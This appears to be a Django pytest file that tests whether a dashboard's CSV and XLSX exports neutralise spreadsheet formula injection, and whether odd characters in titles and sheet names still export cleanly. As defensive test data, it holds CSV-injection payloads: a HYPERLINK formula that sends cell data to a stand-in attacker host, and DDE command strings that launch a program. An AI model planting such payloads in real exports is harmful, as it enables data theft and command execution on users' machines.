"""A title or name never becomes a live formula in the dashboard's CSV or XLSX export
(issue 13, finding 3)."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from regio.models import Persoon

pytestmark = pytest.mark.django_db

SLUG = "midden-limburg-2015-2016"
FORMULES = {
    1: '=HYPERLINK("https://aanvaller.example/?"&A1,"Klik")',
    2: "+cmd|' /C calc'!A0",
    3: "-2+3",
    4: "@SUM(1+1)*cmd|' /C calc'!A0",
    5: "\t=1+1",
    6: "\r=1+1",
}


def _themas(plan):
    return plan.onderdelen.filter(niveau=plan.rapportageniveau)


@pytest.fixture
def kwaadaardig(plan):
    for nummer, titel in FORMULES.items():
        _themas(plan).filter(code=str(nummer)).update(titel=titel)
    persoon = Persoon.objects.get(regio=plan.regio, naam="G. Poell")
    persoon.naam = "=1+2"
    persoon.save()
    return plan


def test_csv_neutralises_formulas(client, rollen, kwaadaardig):
    client.force_login(rollen["manager"])
    antwoord = client.get(reverse("dashboard:export_csv", args=[SLUG]))
    assert antwoord.status_code == 200
    regels = list(csv.reader(io.StringIO(antwoord.content.decode("utf-8-sig")), delimiter=";"))
    cellen = [cel for regel in regels for cel in regel]
    gevaarlijk = [cel for cel in cellen if cel[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert gevaarlijk == []
    titels = {regel[0]: regel[1] for regel in regels[1:]}
    assert titels["1"] == "'" + FORMULES[1]  # the text is kept, behind a quote
    assert titels["3"] == "'-2+3"
    assert any(cel.startswith("'=1+2") for cel in cellen)


def test_xlsx_has_no_formula_cell(client, rollen, kwaadaardig):
    client.force_login(rollen["manager"])
    antwoord = client.get(reverse("dashboard:export_xlsx", args=[SLUG]))
    assert antwoord.status_code == 200
    werkmap = load_workbook(io.BytesIO(antwoord.content))
    formules = [
        (blad.title, cel.coordinate, cel.value)
        for blad in werkmap.worksheets
        for rij in blad.iter_rows()
        for cel in rij
        if cel.data_type == "f"
        or (isinstance(cel.value, str) and cel.value[:1] in ("=", "+", "-", "@"))
    ]
    assert formules == []
    blad = werkmap["Thema's"]
    titels = {rij[0].value: rij[1].value for rij in blad.iter_rows(min_row=2)}
    assert titels["1"] == "'" + FORMULES[1]


def test_control_characters_in_a_title_do_not_break_the_xlsx(client, rollen, plan):
    _themas(plan).filter(code="1").update(titel="Titel\x01\x08\x0bmet stuurtekens")
    client.force_login(rollen["manager"])
    antwoord = client.get(reverse("dashboard:export_xlsx", args=[SLUG]))
    assert antwoord.status_code == 200
    blad = load_workbook(io.BytesIO(antwoord.content))["Thema's"]
    titels = {rij[0].value: rij[1].value for rij in blad.iter_rows(min_row=2)}
    assert titels["1"] == "Titelmet stuurtekens"


def test_a_level_name_that_no_sheet_may_carry_still_exports(client, rollen, plan):
    """The sheet is named after the plan's level, a beheerder's text: characters a sheet name
    cannot hold are left out (openpyxl refused it with a server error)."""
    from agenda.models import Niveau

    # Saved as the admin saves it, so the plan's shape kept per process is renewed.
    niveau = Niveau.objects.get(pk=plan.rapportageniveau.pk)
    niveau.meervoud = "Thema's/acties: [alle] van de regio Midden-Limburg?"
    niveau.save()
    client.force_login(rollen["manager"])
    antwoord = client.get(reverse("dashboard:export_xlsx", args=[SLUG]))
    assert antwoord.status_code == 200
    naam = load_workbook(io.BytesIO(antwoord.content)).worksheets[0].title
    assert naam == "Thema's acties   alle  van de r"
